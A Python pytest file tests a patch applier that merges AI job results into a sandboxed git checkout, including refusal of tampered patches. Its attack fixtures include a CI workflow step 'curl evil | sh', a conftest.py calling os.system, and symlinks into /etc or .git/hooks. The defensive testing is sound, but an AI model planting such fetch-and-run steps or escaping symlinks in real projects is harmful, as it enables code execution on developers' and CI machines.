"""apply brings a job's patch into the caller's tree: merged, never committed, staged or stashed."""

import os
import socket
import subprocess
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from farm_core.job_models import (
    CheckSpec,
    CompactResult,
    JobRecord,
    JobSpec,
    JobStatus,
    RepoSource,
    ScopedPatch,
)
from farm_core.refs import RESULT_REF_PREFIX
from farm_core.result_signature import ResultClaim, sign_result
from farm_core.settings import FarmSettings
from farm_core.store import JobStore, patch_sha256
from mcp_frontend.apply import APPLY_CLAIMED, NOTHING_TO_APPLY, PatchApplier, not_eligible
from mcp_frontend.errors import (
    ApplyFailed,
    JobNotFinished,
    NotAGitRepo,
    PatchMismatch,
    PatchUnavailable,
    RepoOutsideSandbox,
)
from mcp_frontend.patch_check import link_leaves_repo
from mcp_frontend.snapshot import snapshot_ref, snapshot_worktree
from tasks.packaging import binary_patch, commit_result
from tests.fixtures.git_repos import git
from tests.fixtures.signing import make_signing_files

BINARY = bytes(range(256)) * 4

GREET = "def greet():\n    return 'hello'\n\n\n# helpers below\n\n\ndef other():\n    return 2\n"
NOTES = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\n"
FILES = {"README.md": "# sample\n", "src/app.py": GREET, "notes.txt": NOTES, "old_name.txt": "moved\n"}


@dataclass(frozen=True)
class Symlink:
    """A change that makes the path a symlink to target."""

    target: str


@dataclass
class Caller:
    """A caller's checkout inside a sandbox, a store with its own prefix, and an applier over both."""

    sandbox: Path
    repo: Path
    store: JobStore
    applier: PatchApplier


@pytest.fixture
def caller(tmp_path, make_repo, redis_server) -> Caller:  # noqa: F811
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    repo = make_repo(FILES, name="caller", parent=sandbox)
    store = JobStore(redis_server.client(), f"apply-test-{uuid.uuid4().hex[:8]}:", 600, 100)
    return Caller(sandbox, repo, store, PatchApplier(store, sandbox, FarmSettings()))


def run_job(
    caller: Caller,
    tmp_path: Path,
    changes: dict[str, str | bytes | tuple[str] | None],
    status: JobStatus = JobStatus.completed,
    verdicts: list[str] | None = None,
    apply: str = "never",
    transport: str = "path",
    **spec_fields,
) -> str:
    """Snapshot the caller's tree, make `changes` in a clone as a worker would, store the patch.

    A change is new content, None (delete), `(old_name,)` (rename old_name to this path) or a Symlink."""
    job_id = uuid.uuid4().hex
    snapshot = snapshot_worktree(caller.repo, job_id)
    spec = JobSpec(
        job_id=job_id,
        prompt="p",
        source=RepoSource(transport=transport, location=str(caller.repo), origin_host=socket.gethostname()),
        snapshot_commit=snapshot.commit,
        timeout_ms=60000,
        created_at=time.time(),
        apply=apply,
        **spec_fields,
    )
    caller.store.create(spec)
    files = []
    if changes:
        commit = worker_commit(caller.repo, tmp_path / f"worker-{job_id}", snapshot.ref, job_id, changes)
        caller.store.store_patch(job_id, commit[2])
        caller.store.set_fields(job_id, result_commit=commit[1])
        files = commit[0]
    result = CompactResult(job_id=job_id, job_status=status, changed_files=files, checks=verdicts or [])
    assert caller.store.finish(job_id, status, result)
    return job_id


def worker_commit(repo: Path, clone: Path, ref: str, job_id: str, changes) -> tuple[list[str], str, bytes]:
    """What the worker does: edit a checkout of the snapshot, commit on it, make the binary patch."""
    git(repo.parent, "clone", "-q", "--no-checkout", str(repo), str(clone))
    git(clone, "fetch", "-q", "origin", ref)
    git(clone, "checkout", "-q", "--detach", "FETCH_HEAD")
    snapshot = git(clone, "rev-parse", "HEAD").strip()
    for rel, content in changes.items():
        path = clone / rel
        if isinstance(content, Symlink):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.symlink_to(content.target)
        elif isinstance(content, tuple):
            path.parent.mkdir(parents=True, exist_ok=True)
            (clone / content[0]).rename(path)
        elif content is None:
            path.unlink()
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
    commit = commit_result(clone, job_id, "result", base=snapshot)
    return commit.files, commit.commit, binary_patch(clone, commit.parent, commit.commit)


def record(caller: Caller, job_id: str) -> JobRecord:
    return caller.store.get(job_id)


def git_bytes(repo: Path, *args: str) -> bytes:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True).stdout


def refs_and_index(repo: Path) -> dict[str, bytes]:
    """What apply must never change: HEAD, every branch and tag, the index, the stash, the commit count."""
    return {
        "head": git_bytes(repo, "rev-parse", "HEAD"),
        "head_ref": git_bytes(repo, "symbolic-ref", "HEAD"),
        "refs": git_bytes(repo, "for-each-ref", "refs/heads", "refs/tags", "refs/stash"),
        "index": git_bytes(repo, "ls-files", "-s", "--debug"),
        "stash": git_bytes(repo, "stash", "list"),
        "commits": git_bytes(repo, "rev-list", "--count", "--all"),
    }


def tree_bytes(repo: Path) -> dict[str, bytes]:
    """Every working file's bytes, .git excluded."""
    files = {}
    for dirpath, dirnames, filenames in os.walk(repo):
        dirnames[:] = [name for name in dirnames if name != ".git"]
        for name in filenames:
            path = Path(dirpath) / name
            files[path.relative_to(repo).as_posix()] = path.read_bytes()
    return files


def status(repo: Path) -> str:
    return git(repo, "status", "--porcelain=v1", "--untracked-files=all")


JOB_CHANGES = {
    "src/app.py": GREET.replace("'hello'", "'hello farm'"),
    "notes.txt": NOTES.replace("two\n", "TWO (job)\n"),
    "src/new_module.py": "VALUE = 1\n",
    "image.bin": BINARY,
    "new_name.txt": ("old_name.txt",),
}


def test_apply_lands_the_patch_unstaged_without_moving_anything(caller, tmp_path):
    git(caller.repo, "checkout", "-q", "-b", "feature")
    (caller.repo / "README.md").write_text("# sample\nlocal edit\n")
    job_id = run_job(caller, tmp_path, JOB_CHANGES)
    before = refs_and_index(caller.repo)

    result = caller.applier.apply(record(caller, job_id))

    assert result.applied and result.mode == "3way" and result.conflicts == []
    assert result.files == [
        "image.bin",
        "new_name.txt",
        "notes.txt",
        "old_name.txt",
        "src/app.py",
        "src/new_module.py",
    ]
    assert "unstaged" in result.message
    assert refs_and_index(caller.repo) == before
    files = tree_bytes(caller.repo)
    assert files["src/app.py"] == JOB_CHANGES["src/app.py"].encode()
    assert files["notes.txt"] == JOB_CHANGES["notes.txt"].encode()
    assert (
        files["image.bin"] == BINARY and files["new_name.txt"] == b"moved\n" and "old_name.txt" not in files
    )
    assert files["README.md"] == b"# sample\nlocal edit\n"
    assert sorted(status(caller.repo).splitlines()) == [
        " D old_name.txt",
        " M README.md",
        " M notes.txt",
        " M src/app.py",
        "?? image.bin",
        "?? new_name.txt",
        "?? src/new_module.py",
    ]


def test_a_second_apply_says_already_applied_unless_forced(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": NOTES.replace("two\n", "TWO (job)\n")})
    assert caller.applier.apply(record(caller, job_id)).applied
    after_first = tree_bytes(caller.repo)

    again = caller.applier.apply(record(caller, job_id))
    assert not again.applied and again.message.startswith("already applied at ")
    assert tree_bytes(caller.repo) == after_first

    forced = caller.applier.apply(record(caller, job_id), force=True)
    assert forced.applied  # the same change merged onto itself is clean
    assert tree_bytes(caller.repo) == after_first


def test_local_edit_of_the_same_lines_conflicts_and_only_git_3way_writes(caller, tmp_path):
    job_id = run_job(caller, tmp_path, JOB_CHANGES)
    # After the job started: the user edits the same line, another part of a patched file, and an unrelated
    # file.
    (caller.repo / "notes.txt").write_text(NOTES.replace("two\n", "two (mine)\n"))
    (caller.repo / "src/app.py").write_text(GREET.replace("return 2", "return 3"))
    (caller.repo / "README.md").write_text("# sample\nmine, not in the patch\n")
    git(caller.repo, "add", "README.md")  # staged, and must stay staged as it was
    readme, before = (caller.repo / "README.md").read_bytes(), refs_and_index(caller.repo)

    result = caller.applier.apply(record(caller, job_id))

    assert not result.applied
    assert result.conflicts == ["notes.txt"]
    assert "conflict" in result.message
    notes = (caller.repo / "notes.txt").read_text()
    assert "<<<<<<<" in notes and "two (mine)" in notes and "TWO (job)" in notes and ">>>>>>>" in notes
    # git --3way still applies the patch's other files; the merge keeps the user's own addition.
    assert (caller.repo / "src/app.py").read_text() == JOB_CHANGES["src/app.py"].replace(
        "return 2", "return 3"
    )
    assert (caller.repo / "src/new_module.py").read_text() == "VALUE = 1\n"
    assert (caller.repo / "README.md").read_bytes() == readme
    assert refs_and_index(caller.repo) == before
    assert caller.applier.apply(record(caller, job_id)).message.startswith("already applied")


def test_a_patch_git_refuses_changes_nothing_and_names_the_file(caller, tmp_path):
    job_id = run_job(caller, tmp_path, JOB_CHANGES)
    (caller.repo / "notes.txt").unlink()  # the user deleted a file the patch edits
    before, files = refs_and_index(caller.repo), tree_bytes(caller.repo)

    result = caller.applier.apply(record(caller, job_id))

    assert not result.applied and result.conflicts == ["notes.txt"] and result.files == []
    assert "nothing was changed" in result.message
    assert tree_bytes(caller.repo) == files and refs_and_index(caller.repo) == before
    (caller.repo / "notes.txt").write_text(NOTES)  # fixed: the refusal did not use up the job's apply
    assert caller.applier.apply(record(caller, job_id)).applied


@pytest.mark.parametrize("local_edit", [False, True], ids=["clean", "conflicting"])
def test_check_mode_changes_nothing(caller, tmp_path, local_edit):
    job_id = run_job(caller, tmp_path, JOB_CHANGES)
    if local_edit:
        (caller.repo / "notes.txt").write_text(NOTES.replace("two\n", "two (mine)\n"))
    before = (refs_and_index(caller.repo), tree_bytes(caller.repo), status(caller.repo))
    index_bytes = (caller.repo / ".git" / "index").read_bytes()

    result = caller.applier.apply(record(caller, job_id), mode="check")

    assert result.mode == "check" and not result.applied
    assert result.files == [
        "image.bin",
        "new_name.txt",
        "notes.txt",
        "old_name.txt",
        "src/app.py",
        "src/new_module.py",
    ]
    assert result.conflicts == (["notes.txt"] if local_edit else [])
    assert result.message.startswith("would conflict" if local_edit else "would apply cleanly")
    assert (refs_and_index(caller.repo), tree_bytes(caller.repo), status(caller.repo)) == before
    assert (caller.repo / ".git" / "index").read_bytes() == index_bytes
    # check did not use up the apply
    assert caller.applier.apply(record(caller, job_id)).applied == (not local_edit)


def test_a_job_that_changed_nothing_has_nothing_to_apply(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {})
    result = caller.applier.apply(record(caller, job_id))
    assert not result.applied and result.message == NOTHING_TO_APPLY and result.files == []


def test_errors_are_structured(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    caller.store.redis.delete(caller.store.keys(job_id).patch)  # expired
    with pytest.raises(PatchUnavailable):
        caller.applier.apply(record(caller, job_id))

    queued = JobSpec(
        job_id=uuid.uuid4().hex,
        prompt="p",
        source=RepoSource(location=str(caller.repo), origin_host="h"),
        snapshot_commit="0" * 40,
        timeout_ms=60000,
        created_at=time.time(),
    )
    caller.store.create(queued)
    with pytest.raises(JobNotFinished) as error:
        caller.applier.apply(record(caller, queued.job_id))
    assert error.value.code == "job_not_finished"


def test_repo_that_left_the_sandbox_is_refused(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    outside = tmp_path / "elsewhere"
    caller.repo.rename(outside)
    with pytest.raises(NotAGitRepo):
        caller.applier.apply(record(caller, job_id))
    caller.repo.symlink_to(outside, target_is_directory=True)  # same path, now resolving outside SANDBOX_ROOT
    with pytest.raises(RepoOutsideSandbox) as error:
        caller.applier.apply(record(caller, job_id))
    assert error.value.code == "repo_outside_sandbox"
    assert (outside / "notes.txt").read_text() == NOTES


def test_a_different_repo_at_the_same_path_is_refused(caller, tmp_path, make_repo):  # noqa: F811
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    caller.repo.rename(tmp_path / "original")
    make_repo(FILES, name="caller", parent=caller.sandbox)
    with pytest.raises(ApplyFailed, match="snapshot commit"):
        caller.applier.apply(record(caller, job_id))


PASSING = {
    "verdicts": ["scoped_patch: passed (notes.txt)", "tests: passed"],
    "scoped_patch": ScopedPatch(paths=["notes.txt"]),
    "checks": [CheckSpec(name="tests", command="true")],
}


def test_on_success_applies_a_passing_job_once_across_frontends(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, apply="on_success", **PASSING)

    first = caller.applier.on_success(record(caller, job_id))
    assert first.applied and first.files == ["notes.txt"]
    assert (caller.repo / "notes.txt").read_text() == "job\n"
    (caller.repo / "notes.txt").write_text("edited after the apply\n")

    other_frontend = PatchApplier(caller.store, caller.sandbox, FarmSettings())
    assert other_frontend.on_success(record(caller, job_id)) == first  # the stored result, no second apply
    assert caller.applier.on_success(record(caller, job_id)) == first
    assert (caller.repo / "notes.txt").read_text() == "edited after the apply\n"


def test_on_success_never_applies_while_another_frontend_holds_the_claim(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, apply="on_success", **PASSING)
    caller.store.redis.hset(caller.store.keys(job_id).record, APPLY_CLAIMED, "other-host:1")

    result = caller.applier.on_success(record(caller, job_id))

    assert not result.applied and "in progress" in result.message
    assert (caller.repo / "notes.txt").read_text() == NOTES


@pytest.mark.parametrize(
    "status, verdicts",
    [
        (JobStatus.completed, ["scoped_patch: passed (notes.txt)", "tests: failed"]),
        (JobStatus.completed, ["scoped_patch: failed (notes.txt; outside scope: x)", "tests: passed"]),
        (JobStatus.failed, ["scoped_patch: passed (notes.txt)", "tests: passed"]),
    ],
    ids=["failing-check", "scope-violated", "job-failed"],
)
def test_on_success_leaves_an_unsuccessful_job_alone(caller, tmp_path, status, verdicts):
    job_id = run_job(
        caller,
        tmp_path,
        {"notes.txt": "job\n"},
        status=status,
        apply="on_success",
        verdicts=verdicts,
        scoped_patch=PASSING["scoped_patch"],
        checks=PASSING["checks"],
    )

    result = caller.applier.on_success(record(caller, job_id))

    assert not result.applied and result.message.startswith("not applied automatically")
    assert (caller.repo / "notes.txt").read_text() == NOTES
    assert caller.applier.apply(record(caller, job_id)).applied  # the caller may still apply it by hand


def test_on_success_is_off_by_default_and_reports_a_manual_apply(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, **PASSING)
    assert caller.applier.on_success(record(caller, job_id)) is None
    assert (caller.repo / "notes.txt").read_text() == NOTES
    manual = caller.applier.apply(record(caller, job_id))
    assert caller.applier.on_success(record(caller, job_id)) == manual


def test_on_success_reports_an_error_once_instead_of_raising(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, apply="on_success", **PASSING)
    caller.store.redis.delete(caller.store.keys(job_id).patch)

    result = caller.applier.on_success(record(caller, job_id))

    assert not result.applied and "patch_unavailable" in result.message
    assert caller.applier.on_success(record(caller, job_id)) == result


def test_eligibility_needs_every_verdict_passed():
    spec = JobSpec(
        job_id="j",
        prompt="p",
        source=RepoSource(location="/r", origin_host="h"),
        snapshot_commit="0" * 40,
        timeout_ms=1000,
        created_at=0.0,
        checks=[CheckSpec(name="a: b", command="true")],
    )

    def eligible(verdicts: list[str], status: JobStatus = JobStatus.completed) -> bool:
        result = CompactResult(job_id="j", job_status=status, checks=verdicts)
        return (
            not_eligible(
                JobRecord(job_id="j", status=status, queue="q", created_at=0.0, spec=spec, result=result)
            )
            is None
        )

    assert eligible(["a: b: passed"])
    assert not eligible(["a: b: failed"])
    assert not eligible(["a: b: timed out"])
    assert not eligible([])  # a verdict went missing
    assert not eligible(["a: b: passed"], JobStatus.cancelled)


# A writer of Redis swaps the stored patch after the job ended (and maybe makes the record agree with it):
# apply refuses it with patch_mismatch before git writes anything.

WORKFLOW = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps: [{run: 'curl evil | sh'}]\n"
ATTACK = {
    ".github/workflows/ci.yml": WORKFLOW,
    "tests/conftest.py": "import os\nos.system('id')\n",
    "etc": Symlink("/etc"),
}


def swap_patch(
    caller: Caller, tmp_path: Path, job_id: str, changes: dict, agree: tuple[str, ...] = ()
) -> bytes:
    """Store a patch of the attacker's own under the job's key; for each of `agree` ("digest", "files"), also
    make the job's record say what that patch does."""
    files, _, patch = worker_commit(
        caller.repo, tmp_path / f"attacker-{uuid.uuid4().hex[:8]}", snapshot_ref(job_id), job_id, changes
    )
    key = caller.store.keys(job_id).record
    caller.store.redis.set(caller.store.keys(job_id).patch, patch)
    if "digest" in agree:
        caller.store.redis.hset(key, "patch_sha256", patch_sha256(patch))
    if "files" in agree:
        result = record(caller, job_id).result.model_copy(update={"changed_files": files})
        caller.store.redis.hset(key, "result", result.model_dump_json())
    return patch


def untouched(caller: Caller) -> tuple:
    """The caller's refs, index, files and status: what a refused apply must leave exactly as it was."""
    return refs_and_index(caller.repo), tree_bytes(caller.repo), status(caller.repo)


@pytest.mark.parametrize("mode", ["3way", "check"])
def test_a_swapped_patch_is_refused_and_the_checkout_is_left_alone(caller, tmp_path, mode):
    job_id = run_job(caller, tmp_path, {"src/ok.py": "OK = 1\n"})
    swap_patch(caller, tmp_path, job_id, ATTACK)
    before = untouched(caller)

    with pytest.raises(PatchMismatch) as refused:
        caller.applier.apply(record(caller, job_id), mode=mode)

    assert refused.value.code == "patch_mismatch" and "sha256" in refused.value.message and refused.value.hint
    assert untouched(caller) == before
    assert not (caller.repo / "etc").is_symlink() and not (caller.repo / ".github").exists()
    # what get shows; no longer what is stored
    assert record(caller, job_id).result.changed_files == ["src/ok.py"]


def test_on_success_reports_a_swapped_patch_instead_of_applying_it(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, apply="on_success", **PASSING)
    swap_patch(caller, tmp_path, job_id, ATTACK)
    before = untouched(caller)

    result = caller.applier.on_success(record(caller, job_id))

    assert not result.applied and result.message.startswith("not applied automatically: patch_mismatch: ")
    assert untouched(caller) == before


def test_a_rewritten_digest_does_not_make_other_files_acceptable(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"src/ok.py": "OK = 1\n"})
    swap_patch(
        caller,
        tmp_path,
        job_id,
        {"src/ok.py": "OK = 1\n", "tests/conftest.py": "import os\n"},
        agree=("digest",),
    )
    before = untouched(caller)

    with pytest.raises(
        PatchMismatch,
        match=r"other files than the job's record lists \(extra: tests/conftest.py; missing: none\)",
    ):
        caller.applier.apply(record(caller, job_id))
    assert untouched(caller) == before


def test_a_record_rewritten_to_match_must_still_keep_to_the_jobs_scope(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, **PASSING)  # scoped_patch: notes.txt
    swap_patch(
        caller,
        tmp_path,
        job_id,
        {"notes.txt": "job\n", "src/app.py": "import os\n"},
        agree=("digest", "files"),
    )
    before = untouched(caller)

    with pytest.raises(PatchMismatch, match=r"changes src/app.py outside scoped_patch.paths \(notes.txt\)"):
        caller.applier.apply(record(caller, job_id))
    assert untouched(caller) == before


@pytest.mark.parametrize("target", ["/etc", "../../outside", "docs/../../x", ".git/hooks", "docs/../.git"])
def test_a_symlink_leading_out_of_the_repo_is_refused_even_when_the_record_agrees(caller, tmp_path, target):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    swap_patch(
        caller, tmp_path, job_id, {"notes.txt": "job\n", "etc": Symlink(target)}, agree=("digest", "files")
    )
    before = untouched(caller)

    with pytest.raises(PatchMismatch, match="symlinks that lead out of the repo or into its .git: etc -> "):
        caller.applier.apply(record(caller, job_id))
    assert untouched(caller) == before and not (caller.repo / "etc").is_symlink()


def test_a_symlink_inside_the_repo_applies(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"docs/notes": Symlink("../notes.txt")})
    assert caller.applier.apply(record(caller, job_id)).applied
    assert os.readlink(caller.repo / "docs/notes") == "../notes.txt"


def test_a_record_without_a_patch_digest_is_refused(caller, tmp_path):
    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    caller.store.redis.hdel(caller.store.keys(job_id).record, "patch_sha256")
    with pytest.raises(PatchMismatch, match="holds no patch digest"):
        caller.applier.apply(record(caller, job_id))
    assert (caller.repo / "notes.txt").read_text() == NOTES


@pytest.mark.parametrize(
    ("path", "target", "leaves"),
    [
        ("link", "/etc", True),
        ("link", "..", True),
        ("a/b/link", "../../..", True),
        ("a/link", "../../x", True),
        ("link", ".git", True),
        ("a/link", "../.git/config", True),
        ("link", "./.git/hooks/pre-commit", True),
        ("link", "src/app.py", False),
        ("a/b/link", "../../notes.txt", False),
        ("link", ".", False),
        ("link", ".github/workflows", False),
        ("a/link", "../a/../b", False),
    ],
)
def test_which_symlink_targets_leave_the_repo(path, target, leaves):
    assert link_leaves_repo(path, target) is leaves


# transport=remote: the worker pushed its result commit to FARM_GIT_REMOTE; apply compares it with the patch.


def remote_job(caller: Caller, tmp_path: Path, changes: dict, push: bool = True) -> tuple[str, Path]:
    """A finished remote job whose worker pushed its result to a bare remote (unless push is False)."""
    remote = tmp_path / "remote.git"
    if not remote.exists():
        git(tmp_path, "init", "-q", "--bare", str(remote))
    job_id = run_job(caller, tmp_path, changes, transport="remote")
    if push:
        commit = record(caller, job_id).result_commit
        git(tmp_path / f"worker-{job_id}", "push", "-q", str(remote), f"{commit}:{RESULT_REF_PREFIX}{job_id}")
    return job_id, remote


def remote_applier(caller: Caller, remote: Path | None) -> PatchApplier:
    return PatchApplier(
        caller.store, caller.sandbox, FarmSettings(FARM_GIT_REMOTE=str(remote)) if remote else FarmSettings()
    )


def test_a_remote_job_applies_when_its_pushed_result_commit_matches(caller, tmp_path):
    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"})
    assert remote_applier(caller, remote).apply(record(caller, job_id)).applied
    assert (caller.repo / "notes.txt").read_text() == "job\n"


def test_a_remote_job_whose_record_and_patch_were_both_rewritten_is_caught_by_its_result_commit(
    caller, tmp_path
):
    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"})
    swap_patch(caller, tmp_path, job_id, {"notes.txt": "curl evil | sh\n"}, agree=("digest", "files"))
    before = untouched(caller)

    with pytest.raises(PatchMismatch, match="does not make the tree of the result commit"):
        remote_applier(caller, remote).apply(record(caller, job_id))
    assert untouched(caller) == before


@pytest.mark.parametrize("problem", ["not pushed", "other commit", "no FARM_GIT_REMOTE"])
def test_a_remote_job_without_its_result_commit_on_the_remote_is_refused(caller, tmp_path, problem):
    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"}, push=problem != "not pushed")
    if problem == "other commit":
        other, _ = remote_job(caller, tmp_path, {"README.md": "other\n"})
        git(remote, "update-ref", f"{RESULT_REF_PREFIX}{job_id}", record(caller, other).result_commit)
    before = untouched(caller)

    with pytest.raises(PatchMismatch):
        remote_applier(caller, None if problem == "no FARM_GIT_REMOTE" else remote).apply(
            record(caller, job_id)
        )
    assert untouched(caller) == before


# FARM_SIGNING_*: the worker signs the result; the frontend verifies before it applies.


def signed_job(caller: Caller, tmp_path: Path, worker: FarmSettings, changes: dict, **fields) -> str:
    """A finished job whose record carries the worker's signature over its result, as tasks/pipeline.py
    writes it."""
    job_id = run_job(caller, tmp_path, changes, **fields)
    seen = record(caller, job_id)
    claim = ResultClaim.of_job(seen.spec, seen.result_commit, seen.patch_sha256, seen.result.changed_files)
    assert caller.store.set_fields(job_id, **sign_result(claim, worker))
    return job_id


@pytest.fixture
def identities(tmp_path):
    """Signing settings of a worker, and of a frontend trusting that worker (and of an impostor it does not
    trust)."""
    worker = make_signing_files(tmp_path / "keys", "worker")
    frontend = make_signing_files(tmp_path / "keys", "frontend", trusted=[worker.cert])
    impostor = make_signing_files(tmp_path / "keys", "impostor")
    return FarmSettings(**worker.env()), FarmSettings(**frontend.env()), FarmSettings(**impostor.env())


def test_a_signed_result_applies_and_a_rewritten_one_does_not(caller, tmp_path, identities):
    worker, frontend, _ = identities
    applier = PatchApplier(caller.store, caller.sandbox, frontend)
    good = signed_job(caller, tmp_path, worker, {"notes.txt": "job\n"})
    assert applier.apply(record(caller, good)).applied

    forged = signed_job(caller, tmp_path, worker, {"README.md": "job\n"})
    swap_patch(
        caller, tmp_path, forged, {"README.md": "job\n", "src/evil.py": "x\n"}, agree=("digest", "files")
    )
    before = untouched(caller)
    with pytest.raises(PatchMismatch, match="signature does not verify"):
        applier.apply(record(caller, forged))
    assert untouched(caller) == before


def test_an_unsigned_or_untrusted_result_is_refused_where_signing_is_on(caller, tmp_path, identities):
    _, frontend, impostor = identities
    applier = PatchApplier(caller.store, caller.sandbox, frontend)
    unsigned = run_job(caller, tmp_path, {"notes.txt": "job\n"})
    untrusted = signed_job(caller, tmp_path, impostor, {"README.md": "job\n"})

    with pytest.raises(PatchMismatch, match="carries no worker signature"):
        applier.apply(record(caller, unsigned))
    with pytest.raises(PatchMismatch, match="Unknown certificate"):
        applier.apply(record(caller, untrusted))
    assert (caller.repo / "notes.txt").read_text() == NOTES and (
        caller.repo / "README.md"
    ).read_text() == "# sample\n"
